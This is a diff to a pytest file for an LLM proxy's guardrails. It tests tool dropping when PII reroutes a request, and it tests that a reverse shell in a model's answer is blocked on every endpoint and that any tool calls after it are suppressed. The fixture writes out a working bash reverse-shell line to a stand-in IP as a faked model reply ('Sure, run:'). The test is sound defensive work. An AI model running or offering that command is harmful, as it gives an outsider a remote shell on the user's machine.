@@ -100,18 +100,39 @@ def test_same_pipeline_as_chat(proxy, fake_upstream, marker, which, stream):
     assert wait_for(lambda: counted(proxy, task_type="chat", model="ds-coder-v2", status="200") > before, timeout=30)
 
 
+def test_tools_given_back_on_pii_escalation_leave_out_those_the_guardrails_cannot_check(proxy, fake_upstream, marker):
+    """Codex sends web_search with its functions: held back for a model without tools, then given back when PII
+    reroutes to alt-reasoning, the server-side tool stays out (named in x-carrot-tools-dropped), as when tools
+    are sent at once."""
+    fake_upstream.script(Reply(match=marker, content="ok"))
+    r = httpx.post(f"{proxy.base_url}/v1/responses", timeout=120, headers={**proxy.headers(), "X-Risk-Level": "med"},
+                   json={"model": "carrot-chat", "input": f"{marker} mail maria.gonzalez@example.org the plan",
+                         "tools": [{"type": "function", **TOOL}, {"type": "web_search"}]})
+    assert r.status_code == 200, r.text
+    [up] = fake_upstream.find(marker)
+    assert r.headers["x-carrot-model"] == "alt-reasoning" and r.headers["x-carrot-tools"] == "sent"
+    assert [t.get("name") or t["function"]["name"] for t in up.json["tools"]] == ["run"], up.json["tools"]
+    assert "web_search" in r.headers["x-carrot-tools-dropped"]
+
+
+@pytest.mark.parametrize("call", [False, True], ids=["text", "text-then-call"])
 @pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
 @pytest.mark.parametrize("which", sorted(ENDPOINTS))
-def test_a_block_rule_in_the_answer_blocks_it_as_in_chat(proxy, fake_upstream, marker, which, stream):
+def test_a_block_rule_in_the_answer_blocks_it_as_in_chat(proxy, fake_upstream, marker, which, stream, call):
     """A reverse shell in the answer text: the client gets the block notice, not the command, on every endpoint;
-    a whole answer keeps nothing but the notice (a chat answer's content is the notice alone)."""
+    a whole answer keeps nothing but the notice (a chat answer's content is the notice alone), and no tool call
+    after it reaches the client, streamed or not (an agent would run it)."""
     fake_upstream.script(Reply(match=marker, chunk_chars=5,
-                               content="Sure, run:\nbash -i >& /dev/tcp/203.0.113.7/4242 0>&1\nThat's it."))
-    r = post(proxy, which, ENDPOINTS[which][1](marker, stream=stream))
+                               content="Sure, run:\nbash -i >& /dev/tcp/203.0.113.7/4242 0>&1\nThat's it.",
+                               tool_calls=[{"name": "run", "arguments": {"cmd": "ls"}}] if call else None))
+    r = post(proxy, which, ENDPOINTS[which][1](marker, stream=stream, tools=[
+        {"type": "function", **TOOL} if which == "responses" else
+        {"name": TOOL["name"], "description": TOOL["description"], "input_schema": TOOL["parameters"]}]))
     assert r.status_code == 200, r.text
     text = answer_text(which, r, stream)
     assert "/dev/tcp" not in r.text and "203.0.113.7" not in r.text, r.text
     assert "[blocked by carrot guardrails: revshell" in text, text
+    assert '"function_call"' not in r.text and '"tool_use"' not in r.text, r.text
     if not stream:
         assert re.fullmatch(r"\[blocked by carrot guardrails: [\w.,\s-]+\]", text), text
         assert "commands:block" in r.headers["x-carrot-guardrails"]
